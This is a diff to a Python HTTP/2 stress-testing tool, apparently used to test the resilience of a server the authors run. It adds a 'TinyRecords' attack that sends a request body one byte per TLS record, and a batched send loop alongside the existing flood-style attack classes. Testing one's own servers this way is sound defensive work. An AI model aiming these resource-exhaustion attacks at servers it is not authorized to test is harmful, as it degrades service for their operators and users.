@@ -45,6 +45,7 @@ def head(path=b"/healthz", method=b"GET", more=b""):
 
 OPENING = PREFACE + frame(SETTINGS)
 GET = head()
+UPLOAD = head(b"/api/offline/changes", b"POST", literal(b"authorization", b"Bearer any"))
 
 
 class Attack:
@@ -52,6 +53,7 @@ class Attack:
     class's attributes say how it behaves; `stream` is the next one's number."""
 
     reads = True
+    piece = 1 << 20  # bytes sent at once
     opening = OPENING
 
     def __init__(self):
@@ -114,11 +116,20 @@ class PingUnread(Ping):
 
 
 class EmptyData(Attack):
-    opening = OPENING + frame(HEADERS, END_HEADERS, 1, head(
-        b"/api/offline/changes", b"POST", literal(b"authorization", b"Bearer any")))
+    opening = OPENING + frame(HEADERS, END_HEADERS, 1, UPLOAD)
 
     def more(self):
         return frame(DATA, 0, 1) * BATCH
+
+
+class TinyRecords(Attack):
+    """A body of which each byte is a record of TLS, by one who was answered before."""
+    piece = 1
+    opening = (OPENING + frame(HEADERS, END_STREAM | END_HEADERS, 1, GET) +
+               frame(HEADERS, END_HEADERS, 3, UPLOAD))
+
+    def more(self):
+        return frame(DATA, 0, 3, b" " * 2000)
 
 
 class ClosedData(Attack):
@@ -232,12 +243,17 @@ class _Slot:
                 self._read()
             if not self.waiting:
                 self.waiting = self.attack.more()
-            if self.waiting:
-                self.waiting = self.waiting[self.socket.send(self.waiting):]
+            self._send()
         except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
             pass
         except OSError:
             self.close()
+
+    def _send(self):
+        for _ in range(BATCH):
+            if not self.waiting:
+                break
+            self.waiting = self.waiting[self.socket.send(self.waiting[:self.attack.piece]):]
 
     def _read(self):
         try:
